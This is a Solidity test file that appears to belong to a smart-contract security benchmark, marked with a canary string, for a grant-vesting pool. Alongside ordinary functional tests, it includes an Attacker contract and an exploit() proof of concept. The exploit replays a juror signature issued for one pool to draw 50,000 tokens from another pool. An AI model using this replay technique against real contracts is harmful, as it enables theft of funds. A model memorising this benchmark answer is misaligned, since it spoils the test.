// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-b40fa565-dc5c-43d8-83b9-3dfc3521cca6

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./GrantPool.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 hash) external returns (uint8 v, bytes32 r, bytes32 s);
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    constructor(string memory name) ERC20(name, name) {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Has a grant of the village pool.
contract Attacker {
    GrantPool.Grant private g;
    bytes private sig;

    function learn(GrantPool.Grant calldata g_, bytes calldata s) external {
        g = g_;
        sig = s;
    }

    function take(GrantPool p) external {
        p.take(g, sig);
    }

    function draw(GrantPool p) external {
        p.draw(g);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant JUROR = 0x10404;
    uint256 private constant OTHER = 0x10405;
    uint64 private constant START = 1_769_500_000;
    address private constant UMA = address(0x0A3A);

    Coin public dollar;
    Coin public village;
    GrantPool public rich;
    GrantPool public poor;
    Attacker public x;

    function setUp() public {
        vm.warp(START);
        dollar = new Coin("USD");
        village = new Coin("VILL");
        rich = new GrantPool(dollar, vm.addr(JUROR));
        poor = new GrantPool(village, vm.addr(JUROR));
        dollar.approve(address(rich), type(uint256).max);
        village.approve(address(poor), type(uint256).max);
        rich.fill(200_000e18);
        poor.fill(200_000e18);
        x = new Attacker();
        GrantPool.Grant memory g = _grant(address(x), 50_000e18, 7);
        bytes memory sig = _sign(JUROR, poor.hashOf(g));
        poor.take(g, sig);
        x.learn(g, sig);
    }

    function _grant(address to, uint128 sum, uint256 salt) private pure returns (GrantPool.Grant memory) {
        return GrantPool.Grant(to, sum, START, 100 days, salt);
    }

    function _sign(uint256 key, bytes32 h) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, MessageHashUtils.toEthSignedMessageHash(h));
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        GrantPool.Grant memory g = _grant(UMA, 100_000e18, 1);
        bytes32 id = rich.take(g, _sign(JUROR, rich.hashOf(g)));
        require(rich.taken(id) && rich.owed() == 100_000e18 && rich.due(g) == 0, "taken");
        vm.warp(START + 25 days);
        require(rich.draw(g) == 25_000e18 && dollar.balanceOf(UMA) == 25_000e18, "a quarter");
        vm.warp(START + 200 days);
        require(rich.draw(g) == 75_000e18 && rich.owed() == 0 && rich.drawn(id) == 100_000e18, "all");
        require(rich.draw(g) == 0, "no more");
        require(rich.sweep(UMA) == 100_000e18 && dollar.balanceOf(UMA) == 200_000e18, "swept");
        rich.setJuror(vm.addr(OTHER));
        require(rich.juror() == vm.addr(OTHER), "another juror");
        rich.fill(1e18);
        g = _grant(UMA, 1e18, 2);
        rich.take(g, _sign(OTHER, rich.hashOf(g)));
        rich.transferOwnership(UMA);
        vm.prank(UMA);
        rich.acceptOwnership();
        vm.prank(UMA);
        rich.renounceOwnership();
    }

    function test_RefusesGrants() public {
        GrantPool.Grant memory g = _grant(UMA, 0, 1);
        vm.expectRevert(abi.encodeWithSelector(GrantPool.BadGrant.selector));
        rich.take(g, "");
        g = _grant(UMA, 1, 1);
        g.span = 0;
        vm.expectRevert(abi.encodeWithSelector(GrantPool.BadGrant.selector));
        rich.take(g, "");
        g.span = 3 * 365 days + 1;
        vm.expectRevert(abi.encodeWithSelector(GrantPool.BadGrant.selector));
        rich.take(g, "");
        g.span = 3 * 365 days;
        bytes memory sig = _sign(OTHER, rich.hashOf(g));
        vm.expectRevert(abi.encodeWithSelector(GrantPool.NotSigned.selector));
        rich.take(g, sig);
        vm.expectRevert(abi.encodeWithSelector(GrantPool.NotTaken.selector));
        rich.draw(g);
        sig = _sign(JUROR, rich.hashOf(g));
        rich.take(g, sig);
        vm.expectRevert(abi.encodeWithSelector(GrantPool.Twice.selector));
        rich.take(g, sig);
        g = _grant(UMA, 200_000e18, 2);
        sig = _sign(JUROR, rich.hashOf(g));
        vm.expectRevert(abi.encodeWithSelector(GrantPool.Short.selector));
        rich.take(g, sig);
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(abi.encodeWithSelector(GrantPool.Zero.selector));
        rich.setJuror(address(0));
        vm.prank(UMA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, UMA));
        rich.setJuror(UMA);
        vm.prank(UMA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, UMA));
        rich.sweep(UMA);
    }

    function exploit() public {
        x.take(rich);
        vm.warp(START + 100 days);
        x.draw(rich);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(x)) >= 50_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(rich);
    }

    function attacker() public view returns (address) {
        return address(x);
    }
}
